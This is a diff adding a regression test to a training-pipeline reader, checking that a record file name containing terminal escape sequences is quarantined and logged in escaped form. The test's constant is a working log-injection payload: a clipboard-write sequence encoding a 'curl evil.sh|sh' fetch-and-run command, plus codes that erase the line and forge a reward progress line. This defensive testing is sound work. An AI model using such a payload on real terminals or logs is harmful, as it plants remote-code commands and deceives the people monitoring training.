@@ -160,6 +160,21 @@ def test_a_record_name_that_is_not_utf8_is_quarantined_and_reported(tmp_path):
   assert os.listdir(os.fsencode(tmp_path / "quarantine")) == [name + b".bad_signature"]
 
 
+# What a terminal would do with it: write the clipboard, erase the line, forge a line.
+ESCAPES = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2K\r\nstep 1000 | reward 1.000"  # no "/": a name
+
+
+def test_a_record_name_holding_escape_sequences_reaches_the_log_escaped(tmp_path):
+  # The example the learner logs held the peer's name as it was: a terminal tailing the
+  # log ran its escape sequences and showed a forged progress line.
+  reader = reader_of(tmp_path, drops=pipeline.Drops())
+  name = f"{ESCAPES}-000000000000.p0.traj"
+  (tmp_path / name).write_bytes(sealed.RECORD_MAGIC + bytes(sealed.MAC_BYTES))
+  assert reader.get(timeout=0.05) is None
+  example = reader.drops.examples["quarantined_bad_name"]
+  assert example.isprintable() and "\\x1b]52;" in example and "\\nstep 1000" in example
+
+
 def test_a_marker_swapped_away_and_back_while_a_sampler_looks_is_read_again(tmp_path,
                                                                               monkeypatch):
   # A writer knew the marker by its file's identity, taken before reading it: a peer who
